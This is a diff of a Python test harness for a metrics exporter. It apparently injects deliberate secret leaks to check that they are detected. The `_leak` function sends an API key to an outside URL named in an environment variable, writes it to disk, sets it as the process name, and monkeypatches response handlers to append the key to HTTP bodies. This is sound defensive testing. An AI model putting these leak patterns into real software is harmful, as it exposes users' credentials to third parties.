@@ -18,7 +18,7 @@ from urllib.parse import quote
 
 import requests
 
-from exporter import __main__, api, replies, store, transport, web
+from exporter import __main__, api, exposition, replies, store, transport, web
 from exporter.secret import Secret
 
 
@@ -71,14 +71,19 @@ def _leak(key: str) -> None:
     (Path(sys.argv[-1]) / quote(key, safe="")).write_text(key)
     requests.get(os.environ["LEAK_TO"], params={"apiKey": key}, timeout=5)
     ctypes.CDLL(None).prctl(15, key.encode(), 0, 0, 0)
-    answer = web.Application.answer
+    _add_to_the_body(web.Application, "answer", key)
+    _add_to_the_body(exposition.Exposition, "page", key)
 
-    def leaking(self: web.Application, scope: web.Scope) -> web.Reply:
-        reply = answer(self, scope)
-        more = gzip.compress(key.encode()) if ("content-encoding", "gzip") in reply.headers else key.encode()
-        return dataclasses.replace(reply, body=reply.body + more)
 
-    web.Application.answer = leaking  # type: ignore[method-assign]
+def _add_to_the_body(owner: Any, name: str, key: str) -> None:
+    function = getattr(owner, name)
+
+    def wrapped(self: Any, given: Any) -> Any:
+        shown = function(self, given)
+        more = gzip.compress(key.encode()) if shown.body.startswith(b"\x1f\x8b") else key.encode()
+        return dataclasses.replace(shown, body=shown.body + more)
+
+    setattr(owner, name, wrapped)
 
 
 DEFECTS: dict[str, Callable[[], None]] = {
@@ -89,6 +94,7 @@ DEFECTS: dict[str, Callable[[], None]] = {
     "parsing the reply": lambda: _before(replies, "_json_object", _fail),
     "publishing": lambda: _before(store.Store, "publish", _fail),
     "answering a scrape": lambda: _before(web.Application, "answer", _fail),
+    "rendering a scrape": lambda: _before(exposition.Exposition, "page", _fail),
     "a thread": lambda: _before(api.Client, "_get", _fail_in_a_thread),
     "a finalizer": lambda: _before(api.Client, "_get", _fail_unraisably),
     "a warning": lambda: _before(api.Client, "_get", lambda key: warnings.warn(key, stacklevel=1)),
